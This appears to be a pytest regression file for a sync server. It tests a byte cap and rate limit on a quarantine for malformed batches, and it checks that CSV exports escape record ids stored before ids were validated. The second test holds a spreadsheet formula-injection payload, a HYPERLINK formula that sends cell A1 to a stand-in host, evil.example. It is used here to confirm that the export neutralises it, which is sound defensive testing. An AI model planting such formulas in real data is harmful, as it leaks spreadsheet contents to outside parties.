"""Issue 23 in process: the server-level quarantine's byte cap, and CSV cells of ids stored
before ids were checked (the real-server reproductions are in tests/e2e)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator

import pytest
from litestar.testing import TestClient

from server import ingest
from server.app import create_app
from server.config import load_config
from server.datadir import DataDir
from server.store import sync_tables as st
from sync import ops, sealed
from sync.client import Device
from tests.examples import GRAVE
from tests.server.conftest import BASE, PROJECT

MakeDevice = Callable[[str], Device]


@pytest.fixture
def small(data: DataDir) -> Iterator[TestClient]:  # type: ignore[type-arg]
    """The app with a server-level quarantine of 10,000 bytes and 3 entries a minute."""
    config = load_config(data.path, max_stray_bytes=10_000, stray_per_minute=3)
    with TestClient(create_app(config, data), base_url=BASE) as test_client:
        yield test_client


def _junk(size: int) -> bytes:
    return sealed.BATCH_MAGIC + b"\x00\x00\x00\x01\xc0" + b"\x02" * size


def test_the_server_level_quarantine_keeps_bytes_only_under_its_cap(
    data: DataDir,
    small: TestClient,  # type: ignore[type-arg]
) -> None:
    for size in (6_000, 6_000, 10):
        answer = small.post("/v1/device/batches", content=_junk(size))
        assert 400 <= answer.status_code < 500 and answer.json()["error"] != "internal"
    kept = st.list_quarantine(data.store.reader(), None)
    assert [len(q.payload) for q in kept] == [len(_junk(6_000)), 0, len(_junk(10))]
    assert "bytes not kept" in kept[1].reason
    assert {(q.project, q.device_id, q.batch_id) for q in kept} == {(None, None, None)}
    refused = small.post("/v1/device/batches", content=_junk(10))
    assert refused.status_code == 429 and refused.headers["retry-after"] == "60"
    assert len(st.list_quarantine(data.store.reader(), None)) == 3  # a 429 stores nothing


def test_csv_escapes_ids_stored_before_ids_were_checked(
    data: DataDir,
    client: TestClient,  # type: ignore[type-arg]
    admin_headers: dict[str, str],
    make_device: MakeDevice,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    dev = make_device("old-tablet")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    monkeypatch.setattr(ingest.ids, "op_id_problem", lambda _op: None)  # as before issue 23
    dev._commit(ops.Create(fields=GRAVE, **dev._base(formula, "site_grave@1", None)))
    assert dev.push().refused == []
    answer = client.get(
        f"/v1/projects/{PROJECT}/records.csv", params={"form": "site_grave"}, headers=admin_headers
    )
    (row,) = list(csv.reader(io.StringIO(answer.text)))[1:]
    assert row[0] == "'" + formula
